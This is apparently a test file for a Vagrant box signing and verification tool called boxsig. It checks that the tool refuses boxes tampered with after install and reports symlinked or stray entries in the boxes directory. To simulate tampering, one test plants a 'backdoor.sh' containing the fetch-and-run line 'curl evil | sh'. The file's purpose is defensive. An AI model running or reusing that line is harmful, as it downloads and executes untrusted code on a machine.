/**
 * Issue 16 classes 5 and 10: `repackage` of an installed box that changed
 * after install, and unexpected entries (links, files, names that are not a
 * box) in the boxes directory, for `verify --installed` and `repackage`.
 */
import t from 'tap';
import fs from 'node:fs';
import path from 'node:path';
import { boxsig, isolatedEnv, makeBox, makeKey, must, requireTool, sh, sign } from './helpers.js';
import { recordFileName } from '../src/trust/record-files.js';

function setup(t: any) {
  const dir = t.testdir({ inputs: {}, out: {}, elsewhere: {} });
  const inputs = path.join(dir, 'inputs');
  const env = isolatedEnv(dir, { BOXSIG_PASSPHRASE: '' });
  const key = makeKey(inputs, 'Acme <acme@acme.example>', [], env);
  const other = makeKey(inputs, 'Repackager <re@acme.example>', [], env);
  const base = makeBox(path.join(inputs, 'base.box'));
  const add = (name: string, version: string) => {
    const box = path.join(inputs, `${name.replace('/', '_')}-${version}.box`);
    const s = sign(base, [key], ['--name', name, '--version', version, '--fresh', '-o', box], env);
    if (s.code !== 0) throw new Error(s.stderr);
    const r = boxsig(['add', box, '--json'], { env });
    if (r.code !== 0) throw new Error(r.stderr);
    return r.json.directory as string;
  };
  return { dir, inputs, env, key, other, add, out: path.join(dir, 'out'), boxes: path.join(env.VAGRANT_HOME!, 'boxes') };
}

t.test('class 5: repackage checks the installed box against its own manifest first', async (t) => {
  const s = setup(t);
  const installed = s.add('acme/web', '1.2.0');
  const out = path.join(s.out, 'web.box');
  const clean = boxsig(['repackage', 'acme/web', 'virtualbox', '1.2.0', '-o', out, '--key', s.other.secret, '--json'], { env: s.env });
  t.equal(clean.code, 0, clean.stderr);
  t.equal(clean.json.checked, 'manifest');
  t.same(clean.json.changes, []);
  fs.rmSync(out);

  // change the box behind boxsig's back: one file changed, one added, one removed
  fs.appendFileSync(path.join(installed, 'box-disk1.vmdk'), 'x');
  fs.writeFileSync(path.join(installed, 'backdoor.sh'), 'curl evil | sh\n');
  fs.rmSync(path.join(installed, 'Vagrantfile'));
  const refused = boxsig(['repackage', 'acme/web', 'virtualbox', '1.2.0', '-o', out, '--key', s.other.secret, '--json'], { env: s.env });
  t.equal(refused.code, 1, 'refused');
  t.equal(refused.json.code, 'TAMPERED');
  for (const f of ['box-disk1.vmdk', 'backdoor.sh', 'Vagrantfile']) t.match(refused.json.message, f, `the refusal names ${f}`);
  t.match(refused.json.hint, /--accept-changes/);
  t.same(fs.readdirSync(s.out), [], 'no box written, no temporary file left');
  const human = boxsig(['repackage', 'acme/web', 'virtualbox', '1.2.0', '-o', out], { env: s.env });
  t.equal(human.code, 1);
  t.match(human.stderr, /REFUSED \(TAMPERED\).*changed since it was installed/);

  // an explicit flag repackages it and names what changed
  const accepted = boxsig(['repackage', 'acme/web', 'virtualbox', '1.2.0', '-o', out, '--key', s.other.secret, '--accept-changes', '--json'], {
    env: s.env,
  });
  t.equal(accepted.code, 0, accepted.stderr);
  t.same(accepted.json.changes.map((c: any) => `${c.kind} ${c.path}`).sort(), ['added backdoor.sh', 'changed box-disk1.vmdk', 'missing Vagrantfile']);
  t.equal(boxsig(['verify', out, '--pin', s.other.fingerprint], { env: s.env }).code, 0, 'the repackaged box is signed by the new key');
  fs.rmSync(out);
  const acceptedHuman = boxsig(['repackage', 'acme/web', 'virtualbox', '1.2.0', '-o', out, '--accept-changes'], { env: s.env });
  t.equal(acceptedHuman.code, 0);
  t.match(acceptedHuman.stderr, /accepted a change since install: "backdoor.sh" is not in the manifest/);
  fs.rmSync(out);

  // a manifest edited to match the changes no longer matches its signature
  const manifestFile = path.join(installed, '.boxsig', 'manifest.json');
  const m = JSON.parse(fs.readFileSync(manifestFile, 'utf8'));
  m.files = m.files.filter((f: any) => f.path !== 'Vagrantfile');
  fs.writeFileSync(manifestFile, JSON.stringify(m));
  const edited = boxsig(['repackage', 'acme/web', 'virtualbox', '1.2.0', '-o', out, '--json'], { env: s.env });
  t.equal(edited.code, 1);
  t.match(edited.json.message, /does not match \.boxsig\/manifest\.json/);
});

t.test('class 5: a box without a manifest is repackaged with a warning', async (t) => {
  const s = setup(t);
  const plain = path.join(s.boxes, 'legacy-VAGRANTSLASH-old', '0', 'virtualbox');
  fs.mkdirSync(plain, { recursive: true });
  fs.writeFileSync(path.join(plain, 'metadata.json'), '{"provider":"virtualbox"}');
  const r = boxsig(['repackage', 'legacy/old', 'virtualbox', '0', '-o', path.join(s.out, 'old.box')], { env: s.env });
  t.equal(r.code, 0, r.stderr);
  t.match(r.stderr, /carries no manifest/);
});

t.test('class 10: repackage never follows a link in the boxes directory', async (t) => {
  const s = setup(t);
  const real = s.add('acme/real', '1.0.0');
  const elsewhere = path.join(s.dir, 'elsewhere');
  fs.writeFileSync(path.join(elsewhere, 'secret.txt'), 'not part of any box');
  fs.writeFileSync(path.join(elsewhere, 'metadata.json'), '{"provider":"virtualbox"}');
  const links: Array<[string, string]> = [
    // a whole name, a version and a provider directory that are links
    [path.join(s.boxes, 'acme-VAGRANTSLASH-lnk'), path.dirname(path.dirname(real))],
    [path.join(s.boxes, 'acme-VAGRANTSLASH-real', '2.0.0'), path.dirname(real)],
    [path.join(s.boxes, 'acme-VAGRANTSLASH-real', '1.0.0', 'libvirt'), elsewhere],
  ];
  for (const [link, target] of links) fs.symlinkSync(target, link);
  for (const [name, provider, version] of [
    ['acme/lnk', 'virtualbox', '1.0.0'],
    ['acme/real', 'virtualbox', '2.0.0'],
    ['acme/real', 'libvirt', '1.0.0'],
  ]) {
    const r = boxsig(['repackage', name, provider, version, '-o', path.join(s.out, 'x.box'), '--json'], { env: s.env });
    t.equal(r.code, 1, `${name} ${version} (${provider}): refused`);
    t.equal(r.json?.code, 'UNSAFE_ENTRY');
    t.match(r.json?.message, /symbolic link/);
  }
  t.same(fs.readdirSync(s.out), [], 'nothing packed');
});

t.test('class 10: verify --installed reports every unexpected entry of the boxes directory', async (t) => {
  const s = setup(t);
  const real = s.add('acme/real', '1.0.0');
  // a box Vagrant uses through a link: boxsig used to skip it and say "no installed boxes"
  const copy = path.join(s.dir, 'elsewhere', 'acme-VAGRANTSLASH-lnk');
  fs.cpSync(path.dirname(path.dirname(real)), copy, { recursive: true });
  fs.renameSync(path.join(copy, '1.0.0'), path.join(copy, '3.0.0'));
  fs.symlinkSync(copy, path.join(s.boxes, 'acme-VAGRANTSLASH-lnk'));
  const only = boxsig(['verify', '--installed', 'acme/lnk', '--json'], { env: s.env });
  t.equal(only.code, 1, 'a linked box is a refusal, not "no installed boxes"');
  t.equal(only.json.boxes.length, 1);
  t.match(only.json.boxes[0], { name: 'acme/lnk', ok: false, code: 'UNSAFE_ENTRY', entry: 'acme-VAGRANTSLASH-lnk' });
  t.match(only.json.boxes[0].message, /symbolic link/);
  const human = boxsig(['verify', '--installed', 'acme/lnk'], { env: s.env });
  t.equal(human.code, 1);
  t.match(human.stdout, /REFUSED {2}UNSAFE_ENTRY: boxes\/acme-VAGRANTSLASH-lnk is a symbolic link/);
  t.notMatch(human.stdout, /no installed boxes/);

  if (requireTool(t, 'vagrant', 'vagrant')) {
    const list = sh('vagrant', ['box', 'list'], { env: { ...s.env, VAGRANT_CHECKPOINT_DISABLE: '1', VAGRANT_NO_PLUGINS: '1' } });
    t.match(list.stdout, /acme\/lnk\s+\(virtualbox, 3\.0\.0\)/, 'while Vagrant lists and would use the linked box');
  }

  // more entries Vagrant would list differently than their path says, or that are not boxes at all
  fs.writeFileSync(path.join(s.boxes, 'stray-file'), '');
  fs.mkdirSync(path.join(s.boxes, 'acme-VAGRANTCOLON-web', '1.0', 'virtualbox'), { recursive: true });
  fs.writeFileSync(path.join(s.boxes, 'acme-VAGRANTCOLON-web', '1.0', 'virtualbox', 'metadata.json'), '{}');
  fs.mkdirSync(path.join(s.boxes, 'acme-VAGRANTSLASH-real', 'latest'));
  fs.symlinkSync(path.join(s.dir, 'elsewhere'), path.join(s.boxes, 'acme-VAGRANTSLASH-real', '1.0.0', 'libvirt'));
  fs.mkdirSync(path.join(s.boxes, 'acme-VAGRANTSLASH-real', '0.9.0')); // left by vagrant box remove: not a problem
  const all = boxsig(['verify', '--installed', '--json'], { env: s.env });
  t.equal(all.code, 1);
  const refused = all.json.boxes.filter((b: any) => !b.ok).map((b: any) => b.entry);
  t.same(
    refused.sort(),
    ['acme-VAGRANTCOLON-web', 'acme-VAGRANTSLASH-lnk', 'acme-VAGRANTSLASH-real/1.0.0/libvirt', 'acme-VAGRANTSLASH-real/latest', 'stray-file'].sort(),
    'each unexpected entry is reported once',
  );
  t.ok(
    all.json.boxes.some((b: any) => b.ok && b.name === 'acme/real' && b.version === '1.0.0'),
    'the real box still verifies',
  );
  t.ok(must('ls', [s.boxes]));
});

t.test('verify --installed with a damaged trust record: that box is a CONFIG failure (exit 2) naming the file, the others verify', async (t) => {
  const s = setup(t);
  s.add('acme/good', '1.0.0');
  s.add('acme/bad', '1.0.0');
  const record = path.join(s.env.BOXSIG_HOME!, 'records', recordFileName('acme/bad'));
  fs.writeFileSync(record, fs.readFileSync(record, 'utf8').slice(0, 50));
  const r = boxsig(['verify', '--installed', '--json'], { env: s.env });
  t.equal(r.code, 2, 'a damaged store exits as a configuration error does everywhere');
  const bad = r.json.boxes.find((b: any) => b.name === 'acme/bad');
  t.match(bad, { ok: false, code: 'CONFIG' });
  t.match(bad.message, /the record of acme\/bad, it seems.*boxsig trust forget acme\/bad/);
  t.ok(
    r.json.boxes.some((b: any) => b.name === 'acme/good' && b.ok),
    'the other box verifies',
  );
  t.equal(boxsig(['trust', 'forget', 'acme/bad'], { env: s.env }).code, 0, 'trust forget removes the damaged record, as the message says');
  t.equal(
    boxsig(['verify', '--installed', '--json'], { env: s.env }).code,
    0,
    'after which every installed box verifies (acme/bad pinned by nothing: first use)',
  );
});
